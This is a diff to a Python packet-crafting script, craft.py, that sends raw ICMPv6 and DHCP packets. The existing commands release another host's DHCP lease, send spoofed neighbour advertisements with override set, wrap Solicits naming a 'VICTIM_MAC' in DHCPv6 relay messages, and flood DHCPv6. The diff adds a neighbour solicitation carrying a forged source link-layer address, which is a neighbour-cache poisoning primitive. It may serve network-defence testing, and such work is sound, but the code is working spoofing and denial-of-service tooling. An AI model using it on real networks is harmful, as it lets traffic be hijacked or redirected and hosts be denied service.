@@ -4,6 +4,8 @@
 #   craft.py dhcp-release IFNAME CHADDR CIADDR SERVER        a DHCPRELEASE for someone else's lease
 #   craft.py na IFNAME TARGET                                an unsolicited neighbour advertisement
 #                                                            claiming TARGET (override) for our MAC
+#   craft.py ns-lladdr IFNAME DST LLADDR                     a neighbour solicitation for DST, to DST,
+#                                                            whose source link-layer option says LLADDR
 #   craft.py dhcp6-relay IFNAME DST LINK_ADDR VICTIM_MAC     a DHCPv6 Relay-forward to port 547
 #                                                            wrapping a Solicit, option 79 naming
 #                                                            VICTIM_MAC; prints the type of any
@@ -65,6 +67,16 @@ def na(ifname, target):
     msg = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, target)
     msg += b"\x02\x01" + mine
     s.sendto(msg, ("ff02::1", 0, 0, socket.if_nametoindex(ifname)))
+
+
+def ns_lladdr(ifname, dst, lladdr):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
+    # Type 135, code 0, checksum (the kernel's), reserved, target, SLLA option.
+    msg = struct.pack("!BBHI", 135, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, dst)
+    msg += b"\x01\x01" + mac_bytes(lladdr)
+    s.sendto(msg, (dst, 0, 0, socket.if_nametoindex(ifname)))
 
 
 def opt6(code, data):
@@ -143,5 +155,6 @@ def dhcp6_flood(ifname, count):
 
 
 cmd = sys.argv[1]
-{"udp-to-mac": udp_to_mac, "dhcp-release": dhcp_release, "na": na, "dhcp6-relay": dhcp6_relay,
+{"udp-to-mac": udp_to_mac, "dhcp-release": dhcp_release, "na": na, "ns-lladdr": ns_lladdr,
+ "dhcp6-relay": dhcp6_relay,
  "dhcp6-flood": dhcp6_flood}[cmd](*sys.argv[2:])
